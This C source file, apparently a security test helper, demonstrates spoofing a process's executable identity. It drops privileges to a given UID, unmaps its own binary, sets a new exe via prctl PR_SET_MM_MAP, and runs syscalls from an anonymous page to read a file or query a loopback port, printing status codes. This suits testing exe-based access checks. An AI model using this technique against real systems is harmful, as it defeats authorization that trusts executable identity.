// SPDX-License-Identifier: Apache-2.0
// exespoof UID EXE WHAT [initial]: as UID, in a user namespace of its own (or the initial one, which takes root), passes for
// EXE (prctl PR_SET_MM_MAP) and then reads the file WHAT, or the answer to a request to the port when WHAT is "port=N".
// The kernel lets a process name another executable once nothing of the old one is mapped, so the last part runs
// from a copy on an anonymous page, by system calls alone. Build: -static -no-pie, no stack protector, no CET.
#define _GNU_SOURCE
#include <fcntl.h>
#include <grp.h>
#include <netinet/in.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <linux/prctl.h>

#define RANGES 32
#define CODE_SIZE 4096
#define STACK_SIZE 65536
#define REQUEST "GET /spoofed HTTP/1.1\r\nHost: api.test\r\n\r\n"

struct plan {
    unsigned long ranges[RANGES][2];
    long count;
    struct prctl_mm_map map;
    char file[256];
    struct sockaddr_in service; /* when its port is not 0 */
    char request[sizeof(REQUEST)];
    char content[2048];
    char report[8];
};

static inline __attribute__((always_inline)) long call(long number, long a, long b, long c, long d, long e)
{
    register long fourth asm("r10") = d;
    register long fifth asm("r8") = e;
    long result;
    asm volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(fourth), "r"(fifth) : "rcx", "r11", "memory");
    return result;
}

// Prints "exe 0" or "exe E<errno>", then "read <errno>" as one letter pair, then the content if there is one.
static __attribute__((noinline, used, section(".moved"))) void moved(struct plan *plan)
{
    for (long i = 0; i < plan->count; i++)
        call(SYS_munmap, plan->ranges[i][0], plan->ranges[i][1] - plan->ranges[i][0], 0, 0, 0);
    long set = call(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, (long)&plan->map, sizeof(plan->map), 0);
    long file;
    if (plan->service.sin_port) {
        file = call(SYS_socket, AF_INET, SOCK_STREAM, 0, 0, 0);
        call(SYS_connect, file, (long)&plan->service, sizeof(plan->service), 0, 0);
        call(SYS_write, file, (long)plan->request, sizeof(plan->request) - 1, 0, 0);
    } else {
        file = call(SYS_open, (long)plan->file, O_RDONLY, 0, 0, 0);
    }
    long length = call(SYS_read, file, (long)plan->content, sizeof(plan->content), 0, 0);
    plan->report[0] = set == 0 ? 'S' : 'F';
    plan->report[1] = length < 0 ? 'E' : 'R';
    plan->report[2] = '0' + (length < 0 ? -length / 100 % 10 : 0);
    plan->report[3] = '0' + (length < 0 ? -length / 10 % 10 : 0);
    plan->report[4] = '0' + (length < 0 ? -length % 10 : 0);
    plan->report[5] = '\n';
    call(SYS_write, 1, (long)plan->report, 6, 0, 0);
    if (length > 0)
        call(SYS_write, 1, (long)plan->content, length, 0, 0);
    call(SYS_exit_group, 0, 0, 0, 0, 0);
    __builtin_unreachable();
}

static void *pages(size_t size, int protection)
{
    void *start = mmap(NULL, size, protection, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (start == MAP_FAILED)
        exit(3);
    return start;
}

static void find_own_mappings(struct plan *plan)
{
    char self[256] = "", line[512];
    if (readlink("/proc/self/exe", self, sizeof(self) - 1) < 0)
        exit(4);
    FILE *maps = fopen("/proc/self/maps", "r");
    while (maps && fgets(line, sizeof(line), maps))
        if (strstr(line, self) && plan->count < RANGES &&
            sscanf(line, "%lx-%lx", &plan->ranges[plan->count][0], &plan->ranges[plan->count][1]) == 2)
            plan->count++;
}

int main(int argc, char **argv)
{
    if (argc != 4 && (argc != 5 || strcmp(argv[4], "initial")))
        return 2;
    uid_t uid = atoi(argv[1]);
    if (setgroups(0, NULL) || setresgid(uid, uid, uid) || setresuid(uid, uid, uid) || prctl(PR_SET_DUMPABLE, 1))
        return 5;
    if (argc == 4 && unshare(CLONE_NEWUSER)) {
        perror("unshare");
        return 6;
    }
    struct plan *plan = pages(sizeof(*plan), PROT_READ | PROT_WRITE);
    char *code = pages(CODE_SIZE, PROT_READ | PROT_WRITE | PROT_EXEC);
    char *stack = pages(STACK_SIZE, PROT_READ | PROT_WRITE);
    find_own_mappings(plan);
    if (!strncmp(argv[3], "port=", 5))
        plan->service = (struct sockaddr_in){ .sin_family = AF_INET, .sin_port = htons(atoi(argv[3] + 5)), .sin_addr = { htonl(INADDR_LOOPBACK) } };
    memcpy(plan->request, REQUEST, sizeof(REQUEST));
    snprintf(plan->file, sizeof(plan->file), "%s", argv[3]);
    plan->map = (struct prctl_mm_map){
        .start_code = 0x400000, .end_code = 0x401000, .start_data = 0x500000, .end_data = 0x500000,
        .start_brk = 0x600000, .brk = 0x600000, .start_stack = (unsigned long)stack,
        .arg_start = (unsigned long)stack, .arg_end = (unsigned long)stack,
        .env_start = (unsigned long)stack, .env_end = (unsigned long)stack,
        .exe_fd = open(argv[2], O_RDONLY),
    };
    memcpy(code, (void *)moved, CODE_SIZE);
    asm volatile("mov %0, %%rsp; mov %1, %%rdi; call *%2" : : "r"(stack + STACK_SIZE - 4096), "r"(plan), "r"(code) : "memory");
    return 0;
}
